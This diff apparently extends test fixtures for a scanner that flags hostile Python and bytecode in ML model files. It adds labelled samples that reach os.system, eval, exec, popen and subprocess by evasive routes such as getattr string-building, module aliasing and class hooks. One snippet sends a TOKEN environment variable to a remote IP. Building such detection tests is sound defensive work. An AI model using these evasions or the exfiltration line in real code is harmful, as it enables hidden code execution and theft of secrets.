@@ -198,6 +198,8 @@ def python_files():
     put("benign/configuration_tiny.py", CONFIGURATION, "safe", "GH-PY-010", format="python")
     put("benign/tokenization_tiny.py", TOKENIZATION, "safe", format="python")
     put("benign/handler.py", HANDLER, "safe", format="python")
+    put("hostile/compiled.pyc", bytes.fromhex("a70d0d0a00000000000000000000000063") + b"\x00" * 40 + b"\xda\x02os\xda\x06system", "malicious", "GH-PY-001", format="python-bytecode")
+    put("hostile/compiled-plain.pyc", bytes.fromhex("a70d0d0a000000000000000000000000e3") + b"\x00" * 40, "suspicious", "GH-PY-014", format="python-bytecode")
     put("benign/no_name", CONFIGURATION, "safe", format="python")
     put("benign/__init__.py", "from .modeling_tiny import TinyForCausalLM  # noqa\n", "safe")
 
@@ -272,6 +274,35 @@ def python_files():
         "import os\nmatch os.system('id'):\n    case 0:\n        pass\n",
         "from os import path\npath.os.system('id')\n",
         "import os\nfor os.environ['x'] in [str(os.system('id'))]: pass\n",
+        "import random\nrandom._os.system('id')\n",
+        "import collections\ncollections._sys.modules['os'].system('id')\n",
+        "import os\nos.__dict__.get('system')('id')\n",
+        "import os\nos.__getattribute__('system')('id')\n",
+        "import os\nobject.__getattribute__(os, 'system')('id')\n",
+        "globals().get('__builtins__').get('eval')('__import__(\"os\").system(1)')\n",
+        "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n",
+        "import os\nclass A:\n    s = os.system\nA.s('id')\n",
+        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def forward(self, x):\n        self.f('id')\n",
+        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
+        "exec(open('weights.bin').read())\n",
+        "import importlib.util as u\ns = u.spec_from_file_location('m', 'weights.bin')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
+        "import sys\n[m for m in sys.modules.values() if hasattr(m, 'popen')][0].popen('id')\n",
+        "import os\n{'a': os.system}['a']('id')\n",
+        "import os\ndef f():\n    return os.system\nf()('id')\n",
+        "import os as torch\ntorch.system('id')\n",
+        "import os, requests\nclass H:\n    def __call__(self, x):\n        requests.get('http://198.51.100.7/?' + os.environ['TOKEN'])\n",
+        "import numpy as np\nnp.ctypeslib.ctypes.CDLL('./x.so')\n",
+        "from torch.utils.data.datapipes.utils import common\nimport torch\ntorch.serialization.os.system('id')\n",
+        "(lambda f: f('__import__(\"os\").system(1)'))(eval)\n",
+        "e = eval\ne('__import__(\"os\").system(1)')\n",
+        "import builtins\ngetattr(builtins, 'ex' + 'ec')('import os; os.system(1)')\n",
+        "import os\nx = 'sys'\nx += 'tem'\ngetattr(os, x)('id')\n",
+        "import os\nfor n in ['system']:\n    getattr(os, n)('id')\n",
+        "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system('pip install nothing')\n",
+        "import os\nimport torch\nclass M(torch.nn.Module):\n    x = property(lambda s: os.system('id'))\n",
+        "import os\nimport torch\nclass M(torch.nn.Module):\n    def __init_subclass__(cls):\n        os.popen('id')\n",
+        "from subprocess import *\nrun(['id'])\n",
+        "import subprocess as s, shlex\ns.check_call(shlex.split('id'))\n",
     ]):
         code(f"python-{number:02}", text)
     for number, text in enumerate([
@@ -814,6 +845,7 @@ def documents():
     b, h = "benign/", "hostile/"
     put(b + "model.pmml", PMML, "safe", format="pmml")
     put(b + "openvino.xml", OPENVINO, "safe", format="openvino-ir")
+    put(b + "figure.svg", '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>', "safe", format="svg")
     put(b + "picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/><!-- a -->&amp;&#65;</svg>', "safe", format="svg")
     put(b + "LICENSE", "MIT License\n\nCopyright (c) 2026 Example\n\nPermission is hereby granted, free of charge, to any person.\n", "safe", format="text")
     put(b + "table.csv", "id,text\n1,hello\n2,\"with, comma\"\n", "safe", format="text")
